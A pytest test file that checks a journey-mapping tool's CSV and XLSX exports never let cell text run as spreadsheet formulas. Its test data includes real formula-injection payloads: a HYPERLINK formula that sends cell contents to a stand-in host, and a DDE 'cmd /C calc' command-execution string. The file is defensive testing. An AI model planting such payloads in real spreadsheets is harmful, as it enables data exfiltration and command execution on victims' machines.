"""Spreadsheet safety: no text Journeymap exports ever runs as a formula in Excel.

XLSX (sheet and RACI): every text is a string cell, never a formula or an error value.
CSV (sheet and RACI): a text cell starting with =, +, -, @, tab or CR (or with apostrophes
followed by one) gets one leading `'`; numbers never do; Journeymap's reader takes it off
again, so export -> import is lossless.
"""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from journeymap.document import Document
from journeymap.io.mapfile import map_to_json
from journeymap.io.sheet import read_sheet, write_sheet_csv, write_sheet_xlsx
from journeymap.io.spreadsheet_safety import escape_csv_text, unescape_csv_text
from journeymap.model import Map

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TITLES = [
    '=HYPERLINK("http://e/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "#N/A",
    "'=already quoted",
    "''=quoted twice",
    "'plain apostrophe",
    "=",
]


def hostile_map() -> Map:
    doc = Document(Map(id="map-hostile", name="=Hostile"))
    reach = doc.add_stage("=Reach")
    web = doc.add_lane("+Web")
    boss, ops = doc.add_role("=Boss"), doc.add_role("@ops")
    previous = None
    for index, title in enumerate(HOSTILE_TITLES):
        tp = doc.add_touchpoint(reach.id, web.id, title, experience=-1 if index % 2 else 2,
                                channel="-5", description="\t=1+1 in a cell",
                                kpi="=SUM(A1:A9)", owner="@owner", days=3.5, volume=40,
                                cost=1200)
        doc.set_raci(tp.id, boss.id, "R")
        doc.set_raci(tp.id, ops.id, "A")
        if previous is not None:
            doc.add_connection(previous.id, tp.id)
        previous = tp
    return doc.map


@pytest.fixture
def hostile(run_cli, tmp_path) -> str:
    """The hostile map, imported through the CLI as a map file (text kept verbatim)."""
    path = tmp_path / "hostile.json"
    path.write_text(map_to_json(hostile_map()), encoding="utf-8")
    code, out, err = run_cli("import", path)
    assert code == 0, err
    return out.strip()


def export(run_cli, map_id: str, fmt: str, out: Path) -> str:
    code, _, err = run_cli("export", map_id, "--format", fmt, "-o", out)
    assert code == 0, err
    return err


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8"), newline="")))


def assert_quoted_exactly_where_needed(cell: str, original: str) -> None:
    needs = original.lstrip("'")[:1] in TRIGGERS and original.lstrip("'") != ""
    assert cell == ("'" + original if needs else original), (cell, original)


def test_the_csv_sheet_quotes_every_formula_like_text_and_no_number(run_cli, hostile, tmp_path):
    out = tmp_path / "sheet.csv"
    export(run_cli, hostile, "csv", out)
    header, *rows = csv_rows(out)
    column = {name: header.index(name) for name in header}
    assert [row[column["Touchpoint"]] for row in rows] == [
        escape_csv_text(title) for title in HOSTILE_TITLES]
    for row, title in zip(rows, HOSTILE_TITLES, strict=True):
        assert_quoted_exactly_where_needed(row[column["Touchpoint"]], title)
        assert row[column["Stage"]] == "'=Reach" and row[column["Lane"]] == "'+Web"
        assert row[column["Channel"]] == "'-5" and row[column["KPI"]] == "'=SUM(A1:A9)"
        assert row[column["Description"]] == "'\t=1+1 in a cell"
        assert row[column["Owner"]] == "'@owner"
        assert (row[column["R"]], row[column["A"]]) == ("'=Boss", "'@ops")
        # numbers are numbers: a negative Experience is never quoted
        assert row[column["Experience"]] in ("-1", "2")
        assert (row[column["Days"]], row[column["Volume"]], row[column["Cost"]]) == \
            ("3.5", "40", "1200")
    nexts = [row[column["Next"]] for row in rows if row[column["Next"]]]
    assert nexts == [escape_csv_text(title.replace(";", ";;")) for title in HOSTILE_TITLES[1:]]


def test_the_raci_csv_quotes_stage_title_and_role_names(run_cli, hostile, tmp_path):
    out = tmp_path / "raci.csv"
    export(run_cli, hostile, "raci-csv", out)
    header, *rows = csv_rows(out)
    assert header == ["Stage", "Touchpoint", "'=Boss", "'@ops"]
    for row, title in zip(rows, HOSTILE_TITLES, strict=True):
        assert row[0] == "'=Reach"
        assert_quoted_exactly_where_needed(row[1], title)
        assert row[2:] == ["R", "A"]


@pytest.mark.parametrize("fmt", ["xlsx", "raci-xlsx"])
def test_every_xlsx_text_is_a_string_cell_never_a_formula(run_cli, hostile, tmp_path, fmt):
    out = tmp_path / f"{fmt}.xlsx"
    export(run_cli, hostile, fmt, out)
    with zipfile.ZipFile(out) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = openpyxl.load_workbook(out)  # not data_only: a formula would show as one
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for title in HOSTILE_TITLES:
        assert title in texts
    assert "=Reach" in texts and "=Boss" in texts and "@ops" in texts


def test_the_sheet_round_trip_through_the_cli_keeps_formula_like_and_quoted_text(
    run_cli, hostile, tmp_path
):
    for fmt in ("csv", "xlsx"):
        sheet = tmp_path / f"sheet.{fmt}"
        export(run_cli, hostile, fmt, sheet)
        code, out, err = run_cli("import", sheet)
        assert code == 0, err
        again = tmp_path / f"again-{fmt}.json"
        export(run_cli, out.strip(), "json", again)
        back = read_sheet_map(again)
        assert [tp.title for tp in back.touchpoints] == HOSTILE_TITLES
        assert {tp.kpi for tp in back.touchpoints} == {"=SUM(A1:A9)"}
        assert {tp.description for tp in back.touchpoints} == {"\t=1+1 in a cell"}
        assert {tp.channel for tp in back.touchpoints} == {"-5"}
        assert [s.name for s in back.stages] == ["=Reach"]
        assert [r.name for r in back.roles] == ["=Boss", "@ops"]
        assert len(back.connections) == len(HOSTILE_TITLES) - 1


def read_sheet_map(path: Path) -> Map:
    from journeymap.io.mapfile import read_map_file

    return read_map_file(path)


def test_the_reader_removes_exactly_one_quote_and_only_before_a_trigger():
    assert unescape_csv_text("'=x") == "=x"
    assert unescape_csv_text("''=x") == "'=x"
    assert unescape_csv_text("'x") == "'x"
    assert unescape_csv_text("'") == "'"
    assert unescape_csv_text("'-5") == "-5"
    assert unescape_csv_text("=x") == "=x"  # another program's formula text: as it is


# -- any text survives export -> import ------------------------------------------------------
_letters = st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp"))
_start = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", "''+", "'@", "'-"])
_text = st.builds(lambda a, b: a + b, _start, st.text(_letters, max_size=12))
_title = _text.map(str.strip).filter(lambda t: t and ";" not in t and "," not in t)
_free = st.builds(lambda a, b, c: a + b + c, _start, st.sampled_from(["", "\t", "\t="]),
                  st.text(_letters, max_size=12))


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                 HealthCheck.function_scoped_fixture])
@given(titles=st.lists(_title, min_size=1, max_size=6, unique=True), description=_free,
       channel=_title, role=_title)
def test_formula_like_and_quoted_text_survives_export_and_import(tmp_path, titles, description,
                                                                  channel, role):
    doc = Document(Map(id="m", name="Fuzz"))
    stage = doc.add_stage(titles[0])
    lane = doc.add_lane(channel)
    owner = doc.add_role(role)
    made = []
    for title in titles:
        tp = doc.add_touchpoint(stage.id, lane.id, title, description=description,
                                channel=channel, kpi=title, experience=-2)
        doc.set_raci(tp.id, owner.id, "A")
        if made:
            doc.add_connection(made[-1].id, tp.id)
        made.append(tp)
    for name, write in (("s.csv", write_sheet_csv), ("s.xlsx", write_sheet_xlsx)):
        path = tmp_path / name
        write(doc.map, path)
        back, _ = read_sheet(path)
        assert [tp.title for tp in back.touchpoints] == titles
        assert {(tp.description, tp.channel, tp.kpi, tp.experience) for tp in back.touchpoints} \
            == {(description, channel, title, -2) for title in titles}
        assert [s.name for s in back.stages] == [titles[0]]
        assert [ln.name for ln in back.lanes] == [channel]
        assert [r.name for r in back.roles] == [role]
        pairs = {(c.source, c.target) for c in back.connections}
        ids = [tp.id for tp in back.touchpoints]
        assert pairs == set(zip(ids, ids[1:], strict=False))


# -- control characters that XML cannot hold ---------------------------------------------------
def test_control_characters_reaching_the_xlsx_writers_are_left_out_with_one_warning(
    run_cli, hostile, tmp_path
):
    # Text stored before control characters were refused at the way in.
    with sqlite3.connect(run_cli.workspace) as db:
        db.execute("UPDATE touchpoints SET title = 'Call' || char(7) || 'back' WHERE title = '='")
        db.execute("UPDATE roles SET name = 'Bo' || char(27) || 'ss' WHERE name = '=Boss'")
    db.close()
    for fmt in ("raci-xlsx", "xlsx"):
        out = tmp_path / f"{fmt}.xlsx"
        err = export(run_cli, hostile, fmt, out)
        lines = err.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("journeymap: warning: "), err
        assert "left out" in lines[0] and "\\x1b" in lines[0] and "\x1b" not in lines[0]
        texts = {cell.value for sheet in openpyxl.load_workbook(out).worksheets
                 for row in sheet.iter_rows() for cell in row}
        assert "Callback" in texts and "Boss" in texts
